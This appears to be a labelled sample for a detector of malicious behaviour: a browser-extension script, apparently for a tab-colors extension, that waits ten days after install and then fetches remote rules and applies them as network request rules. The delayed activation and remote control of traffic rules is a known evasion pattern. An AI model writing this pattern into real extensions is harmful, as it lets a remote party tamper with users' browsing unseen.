chrome.runtime.onInstalled.addListener(() => chrome.storage.local.set({ installedAt: Date.now() }));
async function begin() {
  const { installedAt } = await chrome.storage.local.get('installedAt');
  // expect: delayed-activation
  if (Date.now() - installedAt < 10 * 24 * 60 * 60 * 1000) return;
  const rules = await (await fetch('https://rules.tab-colors.example/r')).json();
  chrome.declarativeNetRequest.updateDynamicRules({ addRules: rules });
}
chrome.alarms.onAlarm.addListener(begin);
